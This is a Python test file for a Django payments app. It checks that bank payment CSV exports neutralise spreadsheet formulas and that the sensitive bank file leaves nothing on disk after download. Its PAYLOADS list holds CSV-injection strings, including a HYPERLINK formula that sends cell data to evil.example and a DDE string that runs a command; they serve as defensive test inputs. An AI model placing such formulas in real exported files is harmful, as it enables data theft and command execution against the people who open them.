"""Finding 8 of issue 11: the bank payment CSV cannot carry a formula, and the bank file (full ID and account
numbers) does not stay on disk after it is sent (ADR 0020)."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from conftest import PASSWORD
from funds import bankfile, services
from funds.models import Payment
from funds.tests.test_money import checker, two_accepted  # noqa: F401  (fixtures)

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&E2,"点击领取")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(value: str) -> None:
    assert bankfile.neutral(value) == "'" + value
    assert bankfile.neutral("郝建国") == "郝建国" and bankfile.neutral(5) == 5


@pytest.fixture
def approved(two_accepted: list[Any], county_user: Any, checker: Any) -> Any:  # noqa: F811
    services.allocate(actor=county_user, county="610826", year=two_accepted[0].year, level="province",
                      document_no="陕财社〔2026〕12号", issued_on=dt.date.today(), amount=Decimal("20000"))  # fmt: skip
    batch = services.build_batch(actor=county_user, county="610826", year=two_accepted[0].year).batch
    assert batch is not None
    services.approve_batch(actor=checker, batch_id=batch.pk)
    services.issue_bank_file(actor=county_user, batch_id=batch.pk)
    return batch


def test_the_bank_csv_writes_formula_payee_names_as_text(approved: Any, county_user: Any, tmp_path: Path) -> None:
    first, second = Payment.objects.filter(batch=approved).order_by("id")
    Payment.objects.filter(pk=first.pk).update(payee_name=PAYLOADS[0])
    Payment.objects.filter(pk=second.pk).update(payee_name=PAYLOADS[1], bank_name="=1+1")
    services.bank_file(actor=county_user, batch_id=approved.pk, path=tmp_path / "pay.csv")
    rows = list(csv.reader((tmp_path / "pay.csv").open(encoding="utf-8-sig")))
    names = [r[3] for r in rows[1:]]
    assert names == ["'" + PAYLOADS[0], "'" + PAYLOADS[1]] and rows[2][6] == "'=1+1"
    assert all(not cell.startswith(bankfile.FORMULA_STARTS) for row in rows for cell in row)


def test_the_bank_file_download_leaves_nothing_on_disk(
    approved: Any, county_user: Any, settings: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    from core import uploads
    from funds import views

    settings.ANJU_TMP_DIR = tmp_path / "anju-tmp"
    written: list[Path] = []
    monkeypatch.setattr(views, "temp_path", lambda suffix: written.append(uploads.temp_path(suffix)) or written[-1])
    client = Client()
    client.login(username="sd_county", password=PASSWORD)
    response = client.get(reverse("funds:bank_file", args=[approved.pk, "csv"]))
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    assert written and written[0].parent == settings.ANJU_TMP_DIR  # written in the project's folder, not /tmp
    body = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert "身份证号".encode() in body
    assert list(Path(settings.ANJU_TMP_DIR).iterdir()) == []  # and gone already
